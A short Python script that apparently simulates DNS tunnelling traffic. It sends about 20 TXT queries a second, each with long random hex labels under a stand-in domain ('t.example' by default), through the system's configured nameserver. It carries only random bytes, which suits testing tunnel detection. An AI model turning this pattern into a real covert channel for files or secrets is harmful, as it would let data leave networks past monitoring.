"""Data in names: `dnstun.py DOMAIN [SECONDS]`, 20 questions of long random labels a second."""

import contextlib
import os
import re
import socket
import struct
import sys
import time
from pathlib import Path

domain = sys.argv[1] if len(sys.argv) > 1 else "t.example"
seconds = float(sys.argv[2]) if len(sys.argv) > 2 and sys.argv[2].replace(".", "").isdigit() else 8
server = re.findall(r"^nameserver (\S+)", Path("/etc/resolv.conf").read_text(), re.M)[0]
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
    client.settimeout(1)
    client.connect((server, 53))
    for number in range(int(seconds * 20)):
        labels = [os.urandom(30).hex(), os.urandom(25).hex(), *domain.split(".")]
        name = b"".join(bytes([len(label)]) + label.encode() for label in labels) + b"\0"
        client.send(struct.pack(">6H", number, 0x0100, 1, 0, 0, 0) + name + struct.pack(">HH", 16, 1))
        with contextlib.suppress(TimeoutError):
            client.recv(4096)
        time.sleep(0.05)
